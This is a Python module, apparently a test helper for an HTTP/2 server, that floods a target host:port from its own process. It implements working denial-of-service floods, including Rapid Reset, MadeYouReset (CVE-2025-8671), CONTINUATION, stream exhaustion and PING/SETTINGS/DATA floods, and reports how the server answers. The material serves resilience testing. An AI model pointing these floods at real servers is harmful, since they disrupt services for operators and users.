"""One abusive caller, in a process of its own: `python -m wire.flood KIND TARGET RATE`.

It floods from the line "go" on its standard input until the line "stop", and then says as one line of JSON what it sent
and how the server answered. RATE is in units (pairs, frames) per second: a test has few cores, and it is the server that
is to be measured, not how the processes of a test share the cores. 0: as fast as possible.
"""
import json
import select
import socket
import struct
import sys
import time
from collections import Counter

from h2.errors import ErrorCodes

from .connection import (
    ACK, CANCEL, CONTINUATION, DATA, END_HEADERS, GOAWAY, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS, WINDOW_UPDATE,
    frame, head,
)

TICK = 0.002  # Seconds between two batches: smooth beside calls of some milliseconds.
BATCH = 256  # Units at once at most.
LAST_STREAM = 0x7fff_fffd


class Flood:
    """What a connection begins with, and what is repeated on it."""

    def __init__(self, opening=b"", repeat=lambda _: b""):
        self.opening, self.repeat = opening, repeat


REQUEST = head()
OPEN_STREAM = frame(HEADERS, END_HEADERS, 1, REQUEST)
FLOODS = {
    # Each pair makes the server begin a call and drop it.
    "reset": Flood(repeat=lambda n: frame(HEADERS, END_HEADERS, n * 2 + 1, REQUEST)
                   + frame(RST_STREAM, 0, n * 2 + 1, CANCEL)),
    # Each pair makes the server begin a call and reset it: a window beyond 2^31 - 1 (MadeYouReset, CVE-2025-8671).
    "provoked": Flood(repeat=lambda n: frame(HEADERS, END_HEADERS, n * 2 + 1, REQUEST)
                      + frame(WINDOW_UPDATE, 0, n * 2 + 1, b"\x7f\xff\xff\xff")),
    # Streams that are opened, and left to hang.
    "streams": Flood(repeat=lambda n: frame(HEADERS, END_HEADERS, n * 2 + 1, REQUEST)),
    "continuation": Flood(frame(HEADERS, 0, 1, REQUEST), lambda _: frame(CONTINUATION, 0, 1)),
    "settings": Flood(repeat=lambda _: frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100))),
    "ping": Flood(repeat=lambda _: frame(PING, 0, 0, b"\0" * 8)),
    "data": Flood(OPEN_STREAM, lambda _: frame(DATA, 0, 1)),
    "window": Flood(OPEN_STREAM, lambda _: frame(WINDOW_UPDATE, 0, 1, b"\0\0\0\1")),
}


class Attacker:
    def __init__(self, kind, target, rate):
        self.flood, self.rate = FLOODS[kind], rate
        host, port = target.rsplit(":", 1)
        self.address = host, int(port)
        self.sent, self.seconds, self.connections, self.answers = 0, 0, 0, Counter()
        self.socket = None

    def run(self):
        """Until the next line of standard input."""
        began, due = time.monotonic(), 0
        first = self.sent
        while not select.select([sys.stdin], [], [], 0)[0]:
            units = BATCH
            if self.rate:
                due = int((time.monotonic() - began) * self.rate) - (self.sent - first)
                units = min(due, BATCH)
                if units <= 0:
                    time.sleep(TICK)
                    continue
            self._send(units)
        self.seconds += time.monotonic() - began

    def _send(self, units):
        if self.socket is None:
            self._connect()
        batch = b"".join(self.flood.repeat(n) for n in range(self.unit, self.unit + units))
        written = self._write(memoryview(batch))
        self.sent += written * units // len(batch)
        self.unit += units
        if written < len(batch):
            self.answers["hung up"] += 1
        if written < len(batch) or self.unit * 2 + 1 > LAST_STREAM - 2 * BATCH:
            self.socket.close()
            self.socket = None

    def _write(self, view):
        """Returns how many bytes went out before the server hung up."""
        length = len(view)
        while view:
            readable, writable, _ = select.select([self.socket], [self.socket], [], 1)
            try:
                if readable and not self._read():
                    raise ConnectionResetError
                if writable:
                    view = view[self.socket.send(view):]
            except OSError:
                break
        return length - len(view)

    def _connect(self):
        self.socket = socket.create_connection(self.address)
        self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0) + self.flood.opening)
        self.socket.setblocking(False)
        self.buffer, self.unit = b"", 0
        self.connections += 1

    def _read(self):
        received = self.socket.recv(65_536)
        self.buffer += received
        while len(self.buffer) >= 9 + (length := int.from_bytes(self.buffer[:3], "big")):
            kind, payload = self.buffer[3], self.buffer[9:9 + length]
            self.buffer = self.buffer[9 + length:]
            if kind == GOAWAY:
                self.answers[f"GOAWAY {ErrorCodes(int.from_bytes(payload[4:8], 'big')).name}"] += 1
            elif kind == RST_STREAM:
                self.answers[f"RST_STREAM {ErrorCodes(int.from_bytes(payload, 'big')).name}"] += 1
        return bool(received)


def main():
    kind, target, rate = sys.argv[1:]
    attacker = Attacker(kind, target, int(rate))
    for line in iter(sys.stdin.readline, ""):
        if line.strip() == "go":
            attacker.run()
        else:
            print(json.dumps([attacker.sent, attacker.seconds, attacker.connections, attacker.answers]), flush=True)


if __name__ == "__main__":
    main()
